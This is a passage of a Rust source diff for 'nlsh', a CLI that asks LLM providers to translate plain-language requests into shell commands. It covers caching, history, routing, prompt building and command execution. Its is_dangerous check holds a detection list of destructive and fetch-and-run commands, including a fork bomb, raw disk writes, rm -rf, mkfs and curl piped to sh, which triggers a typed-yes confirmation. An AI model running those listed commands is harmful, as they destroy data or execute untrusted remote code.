+fn cache_key(parts: &[&str]) -> String {
+    let mut hash: u64 = 0xcbf29ce484222325;
+    for part in parts {
+        for byte in part.bytes().chain([0]) {
+            hash ^= u64::from(byte);
+            hash = hash.wrapping_mul(0x100000001b3);
+        }
+    }
+    format!("{:016x}", hash)
+}
+
+fn read_cache(key: &str) -> Option<String> {
+    let path = cache_dir()?.join(format!("{}.json", key));
+    let entry: CacheEntry = serde_json::from_str(&fs::read_to_string(path).ok()?).ok()?;
+    let ttl = env_number("NLSH_CACHE_TTL", DEFAULT_CACHE_TTL_SECS);
+    (unix_now().saturating_sub(entry.timestamp) < ttl).then_some(entry.command)
+}
+
+fn write_cache(key: &str, command: &str) -> io::Result<()> {
+    let Some(dir) = cache_dir() else {
+        return Ok(());
+    };
+    fs::create_dir_all(&dir)?;
+    let entry = CacheEntry {
+        timestamp: unix_now(),
+        command: command.to_string(),
+    };
+    let rendered = serde_json::to_string(&entry).map_err(io::Error::other)?;
+    fs::write(dir.join(format!("{}.json", key)), rendered)
+}
+
+fn clear_cache() -> io::Result<()> {
+    match cache_dir() {
+        Some(dir) if dir.exists() => fs::remove_dir_all(dir),
+        _ => Ok(()),
+    }
+}
+
+fn history_path() -> Option<std::path::PathBuf> {
+    Some(nlsh_dir()?.join("history.jsonl"))
+}
+
+fn log_history(entry: &HistoryEntry) -> io::Result<()> {
+    ensure_env_dir()?;
+    let Some(path) = history_path() else {
+        return Ok(());
+    };
+    let line = serde_json::to_string(entry).map_err(io::Error::other)?;
+    let mut file = fs::OpenOptions::new()
+        .create(true)
+        .append(true)
+        .open(path)?;
+    writeln!(file, "{}", line)
+}
+
+fn read_history() -> io::Result<Vec<HistoryEntry>> {
+    let Some(path) = history_path().filter(|path| path.exists()) else {
+        return Ok(Vec::new());
+    };
+    let content = fs::read_to_string(path)?;
+    Ok(content
+        .lines()
+        .filter_map(|line| serde_json::from_str(line).ok())
+        .collect())
+}
+
+fn print_history(limit: usize) -> io::Result<()> {
+    let entries = read_history()?;
+    if entries.is_empty() {
+        println!("No history yet");
+        return Ok(());
+    }
+    for entry in entries.iter().skip(entries.len().saturating_sub(limit)) {
+        println!(
+            "{}  {:<9} {:<7} {}",
+            local_datetime(entry.timestamp),
+            entry.outcome.name(),
+            entry.provider,
+            entry.prompt
+        );
+        println!("    → {}", entry.command);
+    }
+    Ok(())
+}
+
+fn pick_history_prompt() -> io::Result<Option<String>> {
+    let mut prompts: Vec<String> = Vec::new();
+    for entry in read_history()?.into_iter().rev() {
+        if !prompts.contains(&entry.prompt) {
+            prompts.push(entry.prompt);
+        }
+        if prompts.len() == HISTORY_LIMIT {
+            break;
+        }
+    }
+    if prompts.is_empty() {
+        println!("No history yet");
+        return Ok(None);
+    }
+
+    let Some(index) = select_candidate(&prompts)? else {
+        return Ok(None);
+    };
+    let edited = prompt_line("Prompt: ", &prompts[index])?;
+    Ok(edited
+        .map(|prompt| prompt.trim().to_string())
+        .filter(|prompt| !prompt.is_empty()))
+}
+
+fn env_number<T: std::str::FromStr>(key: &str, default: T) -> T {
+    env::var(key)
+        .ok()
+        .and_then(|value| value.trim().parse().ok())
+        .unwrap_or(default)
+}
+
+fn generation_options() -> GenerationOptions {
+    GenerationOptions {
+        temperature: Some(env_number("NLSH_TEMPERATURE", DEFAULT_TEMPERATURE)),
+        max_tokens: Some(env_number("NLSH_MAX_TOKENS", DEFAULT_MAX_TOKENS)),
+    }
+}
+
+fn current_provider(cli_provider: Option<Provider>) -> Provider {
+    if let Some(provider) = cli_provider {
+        return provider;
+    }
+    if let Ok(value) = env::var("NLSH_PROVIDER") {
+        if let Some(provider) = Provider::from_str(&value) {
+            return provider;
+        }
+    }
+    Provider::Gemini
+}
+
+fn allowed_dirs() -> Vec<std::path::PathBuf> {
+    let Some(value) = env::var_os("NLSH_ALLOWED_DIRS") else {
+        return Vec::new();
+    };
+    env::split_paths(&value)
+        .filter(|dir| !dir.as_os_str().is_empty())
+        .map(|dir| match (dir.strip_prefix("~"), home_dir()) {
+            (Ok(rest), Some(home)) => home.join(rest),
+            _ => dir,
+        })
+        .collect()
+}
+
+fn is_dir_allowed(dir: &std::path::Path, allowed: &[std::path::PathBuf]) -> bool {
+    let Ok(dir) = dir.canonicalize() else {
+        return false;
+    };
+    allowed
+        .iter()
+        .filter_map(|root| root.canonicalize().ok())
+        .any(|root| dir.starts_with(root))
+}
+
+fn list_providers(current: Provider) {
+    for provider in Provider::ALL {
+        let marker = if provider == current { "*" } else { " " };
+        let key_status = match provider.env_key() {
+            None => "-",
+            Some(_) if ensure_api_key(provider).is_ok() => "set",
+            Some(_) => "not set",
+        };
+        println!(
+            "{} {:<8} {:<16} {:<8} model: {}",
+            marker,
+            provider.name(),
+            provider.env_key().unwrap_or("(no key)"),
+            key_status,
+            provider.default_model()
+        );
+    }
+}
+
+fn routing_path() -> Option<std::path::PathBuf> {
+    Some(nlsh_dir()?.join("routing.toml"))
+}
+
+fn parse_routing_rules(content: &str) -> Result<Vec<(String, Provider, Option<String>)>, String> {
+    let table: toml::Table = content
+        .parse()
+        .map_err(|err: toml::de::Error| err.to_string())?;
+    let mut rules = Vec::new();
+    for (pattern, target) in table {
+        let Some(target) = target.as_str() else {
+            return Err(format!("the value for \"{}\" must be a string", pattern));
+        };
+        let (provider, model) = match target.split_once('/') {
+            Some((provider, model)) => (provider, Some(model.to_string())),
+            None => (target, None),
+        };
+        let provider = Provider::from_str(provider)
+            .ok_or_else(|| format!("unknown provider \"{}\" for \"{}\"", provider, pattern))?;
+        let pattern = pattern.trim().to_lowercase();
+        if !pattern.is_empty() {
+            rules.push((pattern, provider, model));
+        }
+    }
+    Ok(rules)
+}
+
+fn route_prompt(prompt_input: &str) -> Option<(Provider, String)> {
+    let content = fs::read_to_string(routing_path()?).ok()?;
+    let rules = parse_routing_rules(&content)
+        .map_err(|err| eprintln!("Ignoring ~/.nlsh/routing.toml: {}", err))
+        .ok()?;
+    let prompt_input = prompt_input.to_lowercase();
+    rules
+        .into_iter()
+        .find(|(pattern, _, _)| prompt_input.contains(pattern.as_str()))
+        .map(|(_, provider, model)| {
+            let model = model.unwrap_or_else(|| provider.default_model());
+            (provider, model)
+        })
+}
+
+fn resolve_provider(args: &Args, prompt_input: &str) -> (Provider, String) {
+    let route = if args.no_route || args.provider.is_some() {
+        None
+    } else {
+        route_prompt(prompt_input)
+    };
+    let (provider, routed_model) = route.unwrap_or_else(|| {
+        let provider = current_provider(args.provider);
+        (provider, provider.default_model())
+    });
+    (provider, args.model.clone().unwrap_or(routed_model))
+}
+
+fn ensure_api_key(provider: Provider) -> Result<String, String> {
+    let Some(key) = provider.env_key() else {
+        return Ok(String::new());
+    };
+    match env::var(key) {
+        Ok(value) if !value.trim().is_empty() => Ok(value),
+        _ => Err(format!(
+            "Missing {}. Set one via `nlsh --set-api-key`.",
+            key
+        )),
+    }
+}
+
+const DEFAULT_PROMPT_TEMPLATE: &str = "You are a shell command translator. Convert the user's request into a shell command for {os}/{shell}.\n\
+Current directory: {cwd}\n\
+{os_context}\n\n\
+Rules:\n\
+- Output ONLY the command, nothing else\n\
+- No explanations, no markdown, no backticks\n\
+- If unclear, make a reasonable assumption\n\
+- Prefer simple, common commands\n\n\
+User request: {user_input}";
+
+fn os_name() -> &'static str {
+    match env::consts::OS {
+        "linux" => "Linux",
+        "macos" => "macOS",
+        "windows" => "Windows",
+        other => other,
+    }
+}
+
+fn load_prompt_template() -> Option<String> {
+    read_prompt_template(&nlsh_dir()?.join("prompt.txt"))
+}
+
+fn read_prompt_template(path: &std::path::Path) -> Option<String> {
+    fs::read_to_string(path)
+        .ok()
+        .filter(|template| !template.trim().is_empty())
+}
+
+fn os_context() -> String {
+    let Ok(content) = fs::read_to_string("/etc/os-release") else {
+        return String::new();
+    };
+    content
+        .lines()
+        .find_map(|line| line.strip_prefix("ID="))
+        .map(|id| id.trim().trim_matches('"').trim_matches('\''))
+        .filter(|id| !id.is_empty())
+        .map(|id| format!("Distribution: {}", id))
+        .unwrap_or_default()
+}
+
+fn render_prompt(
+    template: &str,
+    user_input: &str,
+    cwd: &str,
+    shell: &str,
+    os_context: &str,
+) -> String {
+    let template = if os_context.is_empty() {
+        template.replace("{os_context}\n", "")
+    } else {
+        template.to_string()
+    };
+    template
+        .replace("{os_context}", os_context)
+        .replace("{os}", os_name())
+        .replace("{shell}", shell)
+        .replace("{cwd}", cwd)
+        .replace("{user_input}", user_input)
+}
+
+fn build_prompt(
+    template: &str,
+    user_input: &str,
+    cwd: &str,
+    shell: &str,
+    provider: Provider,
+    context: Option<&str>,
+    count: u32,
+) -> String {
+    let mut prompt = render_prompt(template, user_input, cwd, shell, &os_context());
+    if let Some(context) = context {
+        prompt.push_str(&format!(
+            "\n\nContext piped from stdin (e.g. a previously generated command that has not been run):\n{}",
+            context
+        ));
+    }
+    if count > 1 {
+        prompt.push_str(&format!(
+            "\n\nGive {} alternative commands as a numbered list, one per line (e.g. `1. ls -la`), with no other text.",
+            count
+        ));
+    }
+    match shell {
+        "powershell" | "pwsh" => prompt.push_str("\n\nUse PowerShell syntax."),
+        "cmd" => prompt.push_str("\n\nUse cmd.exe syntax."),
+        _ => {}
+    }
+    if let Some(hint) = provider.prompt_hint() {
+        prompt.push_str(&format!("\n\n{}", hint));
+    }
+    prompt
+}
+
+const SPINNER_FRAMES: [char; 10] = ['⠋', '⠙', '⠹', '⠸', '⠼', '⠴', '⠦', '⠧', '⠇', '⠏'];
+
+struct Spinner {
+    running: Arc<AtomicBool>,
+    handle: Option<std::thread::JoinHandle<()>>,
+}
+
+impl Spinner {
+    fn start() -> Self {
+        let running = Arc::new(AtomicBool::new(true));
+        let handle = (io::stdout().is_terminal() && io::stderr().is_terminal()).then(|| {
+            let running = Arc::clone(&running);
+            std::thread::spawn(move || {
+                let mut stderr = io::stderr();
+                for frame in SPINNER_FRAMES.iter().cycle() {
+                    if !running.load(Ordering::Relaxed) {
+                        break;
+                    }
+                    queue!(stderr, cursor::MoveToColumn(0), Print(frame)).ok();
+                    stderr.flush().ok();
+                    std::thread::sleep(Duration::from_millis(80));
+                }
+                queue!(
+                    stderr,
+                    cursor::MoveToColumn(0),
+                    terminal::Clear(ClearType::UntilNewLine)
+                )
+                .ok();
+                stderr.flush().ok();
+            })
+        });
+        Self { running, handle }
+    }
+}
+
+impl Drop for Spinner {
+    fn drop(&mut self) {
+        self.running.store(false, Ordering::Relaxed);
+        if let Some(handle) = self.handle.take() {
+            handle.join().ok();
+        }
+    }
+}
+
+fn request_command(
+    provider: Provider,
+    model: &str,
+    prompt: &str,
+    api_key: &str,
+) -> Result<String, String> {
+    let spinner = Spinner::start();
+    let result = send_request(provider, model, prompt, api_key);
+    drop(spinner);
+    result
+}
+
+fn send_request(
+    provider: Provider,
+    model: &str,
+    prompt: &str,
+    api_key: &str,
+) -> Result<String, String> {
+    let translator = provider.translator(model);
+    let result = translator.translate(prompt, api_key);
+    let tokens = translator.take_token_usage();
+    if tokens > 0 {
+        record_usage(tokens).ok();
+    }
+    result
+}
+
+const EMPTY_RETRY_NUDGE: &str = "Your previous reply was empty. Respond with only the command.";
+
+const CODE_FENCE_TAGS: [&str; 10] = [
+    "",
+    "bash",
+    "sh",
+    "shell",
+    "zsh",
+    "fish",
+    "console",
+    "powershell",
+    "pwsh",
+    "cmd",
+];
+
+fn sanitize_command(raw: &str) -> String {
+    let mut text = raw.trim();
+    if let Some(inner) = text.strip_prefix("```") {
+        let inner = inner.strip_suffix("```").unwrap_or(inner);
+        text = match inner.split_once('\n') {
+            Some((first, rest)) if CODE_FENCE_TAGS.contains(&first.trim()) => rest,
+            _ => inner,
+        };
+        text = text.trim();
+    }
+    if text.len() >= 2 && text.starts_with('`') && text.ends_with('`') {
+        text = text.trim_matches('`').trim();
+    }
+    text.to_string()
+}
+
+fn parse_candidates(text: &str) -> Vec<String> {
+    let mut candidates: Vec<String> = Vec::new();
+    for line in text.lines() {
+        let line = line.trim();
+        let digits = line.len() - line.trim_start_matches(|c: char| c.is_ascii_digit()).len();
+        if digits == 0 {
+            continue;
+        }
+        let Some(rest) = line[digits..]
+            .strip_prefix('.')
+            .or_else(|| line[digits..].strip_prefix(')'))
+        else {
+            continue;
+        };
+        let command = sanitize_command(rest);
+        if !command.is_empty() && !candidates.contains(&command) {
+            candidates.push(command);
+        }
+    }
+    if candidates.is_empty() && !text.trim().is_empty() {
+        candidates.push(text.trim().to_string());
+    }
+    candidates
+}
+
+fn generate_command(
+    prompt: &str,
+    request: impl Fn(&str) -> Result<String, String>,
+) -> Result<String, String> {
+    let command = sanitize_command(&request(prompt)?);
+    if !command.is_empty() {
+        return Ok(command);
+    }
+
+    let command = sanitize_command(&request(&format!("{}\n\n{}", prompt, EMPTY_RETRY_NUDGE))?);
+    if command.is_empty() {
+        return Err("model returned an empty command".to_string());
+    }
+    Ok(command)
+}
+
+fn estimate_tokens(text: &str) -> usize {
+    text.chars().count().div_ceil(4)
+}
+
+fn compare_prompts(
+    templates: &[String],
+    user_input: &str,
+    cwd: &str,
+    shell: &str,
+    provider: Provider,
+    model: &str,
+    context: Option<&str>,
+) -> Result<(), String> {
+    let [path_a, path_b] = templates else {
+        return Err("--compare-prompts takes exactly two template files".to_string());
+    };
+    let read = |path: &String| fs::read_to_string(path).map_err(|err| format!("{}: {}", path, err));
+    let build =
+        |template: &str| build_prompt(template, user_input, cwd, shell, provider, context, 1);
+    let prompt_a = build(&read(path_a)?);
+    let prompt_b = build(&read(path_b)?);
+
+    let (chars_a, chars_b) = (prompt_a.chars().count(), prompt_b.chars().count());
+    let (tokens_a, tokens_b) = (estimate_tokens(&prompt_a), estimate_tokens(&prompt_b));
+    println!("A {}: {} chars, ~{} tokens", path_a, chars_a, tokens_a);
+    println!(
+        "B {}: {} chars, ~{} tokens ({:+} chars, {:+} tokens)",
+        path_b,
+        chars_b,
+        tokens_b,
+        chars_b as i64 - chars_a as i64,
+        tokens_b as i64 - tokens_a as i64
+    );
+
+    let Ok(api_key) = ensure_api_key(provider) else {
+        println!(
+            "No {} set; skipping generation.",
+            provider.env_key().unwrap_or("API key")
+        );
+        return Ok(());
+    };
+
+    let spinner = Spinner::start();
+    let (result_a, result_b) = std::thread::scope(|scope| {
+        let a = scope.spawn(|| send_request(provider, model, &prompt_a, &api_key));
+        let b = scope.spawn(|| send_request(provider, model, &prompt_b, &api_key));
+        (
+            a.join()
+                .unwrap_or_else(|_| Err("request thread panicked".to_string())),
+            b.join()
+                .unwrap_or_else(|_| Err("request thread panicked".to_string())),
+        )
+    });
+
+    drop(spinner);
+
+    println!();
+    let render = |result: &Result<String, String>| match result {
+        Ok(command) => format!("→ {}", sanitize_command(command)),
+        Err(err) => format!("error: {}", err),
+    };
+    println!("A {}", render(&result_a));
+    println!("B {}", render(&result_b));
+    if let (Ok(a), Ok(b)) = (&result_a, &result_b) {
+        if sanitize_command(a) == sanitize_command(b) {
+            println!("(identical commands)");
+        }
+    }
+
+    Ok(())
+}
+
+enum Decision {
+    Run,
+    Edit,
+    Alias,
+    Copy,
+    Refine,
+    Cancel,
+}
+
+fn confirm_key() -> KeyCode {
+    let value = env::var("NLSH_CONFIRM_KEY").unwrap_or_default();
+    match value.to_lowercase().as_str() {
+        "" | "enter" | "return" => KeyCode::Enter,
+        "space" => KeyCode::Char(' '),
+        "tab" => KeyCode::Tab,
+        other => {
+            let mut chars = other.chars();
+            match (chars.next(), chars.next()) {
+                (Some(c), None) if !matches!(c, 'e' | 'a' | 'c' | 'r') => KeyCode::Char(c),
+                _ => KeyCode::Enter,
+            }
+        }
+    }
+}
+
+fn key_label(key: KeyCode) -> String {
+    match key {
+        KeyCode::Enter => "Enter".to_string(),
+        KeyCode::Tab => "Tab".to_string(),
+        KeyCode::Char(' ') => "Space".to_string(),
+        KeyCode::Char(c) => c.to_string(),
+        other => format!("{:?}", other),
+    }
+}
+
+fn read_decision(confirm_key: KeyCode, timeout: Option<Duration>) -> io::Result<Decision> {
+    let deadline = timeout.map(|timeout| Instant::now() + timeout);
+
+    let raw_mode = RawModeGuard::enable()?;
+    let decision = loop {
+        if let Some(deadline) = deadline {
+            let remaining = deadline.saturating_duration_since(Instant::now());
+            if !event::poll(remaining)? {
+                break Decision::Cancel;
+            }
+        }
+        if let Event::Key(key_event) = event::read()? {
+            match key_event.code {
+                KeyCode::Char('c') if key_event.modifiers.contains(KeyModifiers::CONTROL) => {
+                    break Decision::Cancel
+                }
+                code if code == confirm_key => break Decision::Run,
+                KeyCode::Char('e') => break Decision::Edit,
+                KeyCode::Char('a') => break Decision::Alias,
+                KeyCode::Char('c') => break Decision::Copy,
+                KeyCode::Char('r') => break Decision::Refine,
+                KeyCode::Esc => break Decision::Cancel,
+                _ => {}
+            }
+        }
+    };
+    drop(raw_mode);
+    println!();
+    Ok(decision)
+}
+
+fn select_candidate(candidates: &[String]) -> io::Result<Option<usize>> {
+    let mut selected = 0;
+    let mut stdout = io::stdout();
+
+    let raw_mode = RawModeGuard::enable()?;
+    let result = loop {
+        for (index, candidate) in candidates.iter().enumerate() {
+            queue!(
+                stdout,
+                cursor::MoveToColumn(0),
+                terminal::Clear(ClearType::UntilNewLine)
+            )?;
+            if index == selected {
+                queue!(stdout, Print(format!("> {}", candidate).reverse()))?;
+            } else {
+                queue!(stdout, Print(format!("  {}", candidate)))?;
+            }
+            queue!(stdout, Print("\r\n"))?;
+        }
+        stdout.flush()?;
+
+        let choice = match event::read()? {
+            Event::Key(key_event) => match key_event.code {
+                KeyCode::Up => {
+                    selected = selected.saturating_sub(1);
+                    None
+                }
+                KeyCode::Down => {
+                    selected = (selected + 1).min(candidates.len() - 1);
+                    None
+                }
+                KeyCode::Char('c') if key_event.modifiers.contains(KeyModifiers::CONTROL) => {
+                    Some(None)
+                }
+                KeyCode::Enter => Some(Some(selected)),
+                KeyCode::Esc => Some(None),
+                _ => None,
+            },
+            _ => None,
+        };
+        if let Some(choice) = choice {
+            break choice;
+        }
+        queue!(stdout, cursor::MoveUp(candidates.len() as u16))?;
+    };
+    drop(raw_mode);
+    Ok(result)
+}
+
+const CLIPBOARD_COMMANDS: [(&str, &[&str]); 5] = [
+    ("pbcopy", &[]),
+    ("wl-copy", &[]),
+    ("xclip", &["-selection", "clipboard"]),
+    ("xsel", &["--clipboard", "--input"]),
+    ("clip", &[]),
+];
+
+fn copy_to_clipboard(text: &str) -> Result<(), String> {
+    for (program, program_args) in CLIPBOARD_COMMANDS {
+        let Ok(mut child) = Command::new(program)
+            .args(program_args)
+            .stdin(Stdio::piped())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn()
+        else {
+            continue;
+        };
+        if let Some(mut stdin) = child.stdin.take() {
+            stdin.write_all(text.as_bytes()).ok();
+        }
+        if child.wait().is_ok_and(|status| status.success()) {
+            return Ok(());
+        }
+    }
+    Err("no working clipboard tool found (pbcopy, wl-copy, xclip or xsel)".to_string())
+}
+
+fn fits_on_screen(text: &str) -> Option<bool> {
+    let (columns, rows) = terminal::size().ok()?;
+    let columns = usize::from(columns.max(1));
+    let height: usize = text
+        .lines()
+        .map(|line| line.chars().count().max(1).div_ceil(columns))
+        .sum();
+    Some(height + 2 <= usize::from(rows))
+}
+
+fn page_text(text: &str) -> io::Result<()> {
+    let pager = env::var("PAGER")
+        .ok()
+        .filter(|pager| !pager.trim().is_empty())
+        .unwrap_or_else(|| if cfg!(windows) { "more" } else { "less" }.to_string());
+    let (shell, flag) = if cfg!(windows) {
+        ("cmd", "/C")
+    } else {
+        ("sh", "-c")
+    };
+    let mut child = Command::new(shell)
+        .arg(flag)
+        .arg(&pager)
+        .stdin(Stdio::piped())
+        .spawn()?;
+    if let Some(mut stdin) = child.stdin.take() {
+        stdin.write_all(text.as_bytes()).ok();
+        stdin.write_all(b"\n").ok();
+    }
+    child.wait()?;
+    Ok(())
+}
+
+fn read_stdin() -> io::Result<Option<String>> {
+    let mut stdin = io::stdin();
+    if stdin.is_terminal() {
+        return Ok(None);
+    }
+    let mut input = String::new();
+    stdin.read_to_string(&mut input)?;
+    let input = input.trim();
+    Ok((!input.is_empty()).then(|| input.to_string()))
+}
+
+struct RunResult {
+    code: i32,
+    stderr: String,
+}
+
+fn blank_quoted_text(command: &str) -> String {
+    let mut blanked = String::with_capacity(command.len());
+    let mut quote = None;
+    let mut escaped = false;
+    for c in command.chars() {
+        if escaped {
+            escaped = false;
+            blanked.push(' ');
+            continue;
+        }
+        match quote {
+            Some(q) if c == q => quote = None,
+            Some(q) => {
+                escaped = c == '\\' && q == '"';
+                blanked.push(' ');
+                continue;
+            }
+            None if c == '\\' => escaped = true,
+            None if c == '\'' || c == '"' => quote = Some(c),
+            None => {}
+        }
+        blanked.push(c);
+    }
+    blanked
+}
+
+fn detect_bashisms(command: &str) -> Vec<&'static str> {
+    let command = blank_quoted_text(command);
+    let mut found = Vec::new();
+    let mut check = |present: bool, label: &'static str| {
+        if present && !found.contains(&label) {
+            found.push(label);
+        }
+    };
+
+    check(command.contains("[["), "[[ ]] tests");
+    check(command.contains("=("), "arrays");
+    check(
+        command.contains("<(") || command.contains(">("),
+        "process substitution",
+    );
+    check(
+        command.contains("&>") || command.contains("|&"),
+        "&> / |& redirection",
+    );
+    check(command.contains("$'"), "$'...' quoting");
+    check(
+        command.split('{').skip(1).any(|rest| {
+            rest.split_once('}')
+                .is_some_and(|(inner, _)| inner.contains("..") && !inner.contains(' '))
+        }),
+        "{a..b} brace expansion",
+    );
+
+    for segment in command.split([';', '|', '&', '\n', '(', ')']) {
+        let first = segment.split_whitespace().find(|word| {
+            !matches!(
+                *word,
+                "if" | "then" | "else" | "elif" | "do" | "while" | "until" | "!" | "{"
+            )
+        });
+        match first {
+            Some("function") => check(true, "function keyword"),
+            Some("source") => check(true, "source (use . in sh)"),
+            Some("declare" | "typeset") => check(true, "declare/typeset"),
+            _ => {}
+        }
+    }
+
+    found
+}
+
+const SUDO_SHORT_VALUE_OPTIONS: &str = "CDgpRrTtUu";
+const SUDO_LONG_VALUE_OPTIONS: [&str; 11] = [
+    "chdir",
+    "chroot",
+    "close-from",
+    "command-timeout",
+    "group",
+    "host",
+    "other-user",
+    "prompt",
+    "role",
+    "type",
+    "user",
+];
+
+fn sudo_option_count(words: &[&str]) -> usize {
+    let mut count = 0;
+    while let Some(word) = words.get(count) {
+        if *word == "--" {
+            count += 1;
+            break;
+        }
+        let takes_value = if let Some(long) = word.strip_prefix("--") {
+            SUDO_LONG_VALUE_OPTIONS.contains(&long)
+        } else if let Some(short) = word.strip_prefix('-').filter(|short| !short.is_empty()) {
+            short.find(|c| SUDO_SHORT_VALUE_OPTIONS.contains(c)) == Some(short.len() - 1)
+        } else {
+            break;
+        };
+        count += if takes_value { 2 } else { 1 };
+    }
+    count.min(words.len())
+}
+
+fn command_words(segment: &str) -> Vec<&str> {
+    let words: Vec<&str> = segment.split_whitespace().collect();
+    let mut start = 0;
+    while let Some(word) = words.get(start) {
+        if *word == "sudo" {
+            start += 1 + sudo_option_count(&words[start + 1..]);
+        } else if word.contains('=') {
+            start += 1;
+        } else {
+            break;
+        }
+    }
+    words[start..].to_vec()
+}
+
+fn is_dangerous(command: &str) -> bool {
+    let compact: String = command.chars().filter(|c| !c.is_whitespace()).collect();
+    if compact.contains(":(){:|:&};:")
+        || compact.contains(">/dev/sd")
+        || compact.contains(">/dev/nvme")
+    {
+        return true;
+    }
+
+    let pipelines: Vec<&str> = command
+        .split([';', '\n'])
+        .flat_map(|part| part.split("&&"))
+        .flat_map(|part| part.split("||"))
+        .collect();
+    for pipeline in pipelines {
+        let stages: Vec<Vec<&str>> = pipeline.split('|').map(command_words).collect();
+        for (index, words) in stages.iter().enumerate() {
+            let Some(program) = words.first() else {
+                continue;
+            };
+            let args = &words[1..];
+            let flags = || args.iter().filter(|arg| arg.starts_with('-'));
+            let dangerous = match *program {
+                "rm" => {
+                    let recursive = flags().any(|flag| {
+                        *flag == "--recursive"
+                            || (!flag.starts_with("--")
+                                && (flag.contains('r') || flag.contains('R')))
+                    });
+                    let force = flags().any(|flag| {
+                        *flag == "--force" || (!flag.starts_with("--") && flag.contains('f'))
+                    });
+                    recursive && force
+                }
+                "dd" => args.iter().any(|arg| arg.starts_with("if=")),
+                "chmod" | "chown" | "chgrp" => args.iter().any(|arg| *arg == "/" || *arg == "/*"),
+                "curl" | "wget" => stages[index + 1..].iter().any(|next| {
+                    next.first().is_some_and(|next| {
+                        matches!(shell_name(next), "sh" | "bash" | "zsh" | "dash")
+                    })
+                }),
+                program => program.starts_with("mkfs"),
+            };
+            if dangerous {
+                return true;
+            }
+        }
+    }
+    false
+}
+
+fn confirm_dangerous() -> io::Result<bool> {
+    let answer = prompt_line("Type yes to run it: ", "")?;
+    Ok(answer.is_some_and(|answer| answer.trim() == "yes"))
+}
+
+fn shell_name(path: &str) -> &str {
+    let name = path.rsplit(['/', '\\']).next().unwrap_or(path);
+    name.strip_suffix(".exe").unwrap_or(name)
+}
+
+#[cfg(not(windows))]
+fn shell_path() -> String {
+    env::var("SHELL")
+        .ok()
+        .filter(|shell| !shell.trim().is_empty())
+        .unwrap_or_else(|| "/bin/sh".to_string())
+}
+
+#[cfg(windows)]
+fn shell_path() -> String {
+    env::var("SHELL")
+        .ok()
+        .filter(|shell| !shell.trim().is_empty())
+        .unwrap_or_else(|| "powershell".to_string())
+}
+
+fn shell_command_flag(shell: &str) -> &'static str {
+    match shell_name(shell) {
+        "cmd" => "/C",
+        "powershell" | "pwsh" => "-Command",
+        _ => "-c",
+    }
+}
+
+fn is_posix_sh(shell: &str) -> bool {
+    matches!(shell_name(shell), "sh" | "dash" | "ash")
+}
+
+#[cfg(windows)]
+fn push_command_arg(process: &mut Command, shell: &str, command: &str) {
+    use std::os::windows::process::CommandExt;
+    if shell_name(shell) == "cmd" {
+        process.raw_arg(command);
+    } else {
+        process.arg(command);
+    }
+}
+
+#[cfg(not(windows))]
+fn push_command_arg(process: &mut Command, _shell: &str, command: &str) {
+    process.arg(command);
+}
+
+fn run_command(
+    command: &str,
+    shell: &str,
+    envs: &[(String, String)],
+    capture_stderr: bool,
+) -> io::Result<RunResult> {
+    let mut process = Command::new(shell);
+    process.arg(shell_command_flag(shell));
+    push_command_arg(&mut process, shell, command);
+    let mut child = process
+        .envs(envs.iter().map(|(key, value)| (key, value)))
+        .stdin(Stdio::inherit())
+        .stdout(Stdio::inherit())
+        .stderr(if capture_stderr {
+            Stdio::piped()
+        } else {
+            Stdio::inherit()
+        })
+        .spawn()?;
+
+    let tee = child.stderr.take().map(|mut child_stderr| {
+        std::thread::spawn(move || {
+            let mut captured = Vec::new();
+            let mut buffer = [0u8; 4096];
+            while let Ok(read) = child_stderr.read(&mut buffer) {
+                if read == 0 {
+                    break;
+                }
+                let mut stderr = io::stderr();
+                stderr.write_all(&buffer[..read]).ok();
+                stderr.flush().ok();
+                captured.extend_from_slice(&buffer[..read]);
+            }
+            String::from_utf8_lossy(&captured).into_owned()
+        })
+    });
+
+    let status = child.wait()?;
+    let stderr = tee
+        .and_then(|handle| handle.join().ok())
+        .unwrap_or_default();
+    Ok(RunResult {
+        code: status.code().unwrap_or(1),
+        stderr,
+    })
+}
+
+fn shellcheck(command: &str, shell: &str) {
+    let dialect = match shell_name(shell) {
+        name @ ("sh" | "bash" | "dash" | "ksh") => name,
+        _ => "bash",
+    };
+    let output = Command::new("shellcheck")
+        .arg(format!("--shell={}", dialect))
+        .arg("--format=gcc")
+        .arg("-")
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .spawn()
+        .and_then(|mut child| {
+            if let Some(mut stdin) = child.stdin.take() {
+                writeln!(stdin, "{}", command)?;
+            }
+            child.wait_with_output()
+        });
+
+    match output {
+        Ok(output) => {
+            for line in String::from_utf8_lossy(&output.stdout).lines() {
+                println!("  {}", line.strip_prefix("-:").unwrap_or(line));
+            }
+        }
+        Err(err) if err.kind() == io::ErrorKind::NotFound => {
+            println!("shellcheck is not installed; skipping --check");
+        }
+        Err(err) => eprintln!("error: could not run shellcheck: {}", err),
+    }
+}
+
+fn build_explain_prompt(command: &str) -> String {
+    format!(
+        "Explain in plain English what this shell command does, step by step but briefly.\n\
+Mention anything destructive or surprising. No markdown headings.\n\n\
+Command: {command}",
+        command = command
+    )
+}
+
+fn explain_command(
+    command: &str,
+    provider: Provider,
+    model: &str,
+    api_key: &str,
+) -> Option<String> {
+    request_command(provider, model, &build_explain_prompt(command), api_key)
+        .map_err(|err| eprintln!("error: could not explain command: {}", err))
+        .ok()
+}
+
+fn build_refine_prompt(prompt: &str, command: &str, refinement: &str) -> String {
+    format!(
+        "{prompt}\n\nYou suggested: {command}\n\
+The user wants it changed: {refinement}\n\
+Reply with only the revised command.",
+        prompt = prompt,
+        command = command,
+        refinement = refinement
+    )
+}
+
+fn build_error_explain_prompt(command: &str, code: i32, stderr: &str) -> String {
+    format!(
+        "A shell command failed. Explain in plain English what went wrong and how to fix it.\n\
+Keep it short: a sentence or two on the cause, then the fix.\n\n\
+Command: {command}\n\
+Exit code: {code}\n\
+Stderr:\n{stderr}",
+        command = command,
+        code = code,
+        stderr = if stderr.trim().is_empty() {
+            "(empty)"
+        } else {
+            stderr.trim()
+        }
+    )
+}
+
+/// Replaces an unquoted `~/` at the start of a word with the quoted home directory,
+/// so `sh -c` runs see the same paths as an interactive shell. `~user`, quoted or
+/// escaped tildes and heredoc bodies are left untouched. The confirm prompt shows
+/// the expanded command before it runs.
+fn expand_tilde(command: &str) -> String {
+    let Some(home) = home_dir() else {
+        return command.to_string();
+    };
+    let home = shell_quote(&home.display().to_string());
+
+    let mut expanded = String::with_capacity(command.len());
+    let mut heredocs: Vec<(String, bool)> = Vec::new();
+    let mut quote = None;
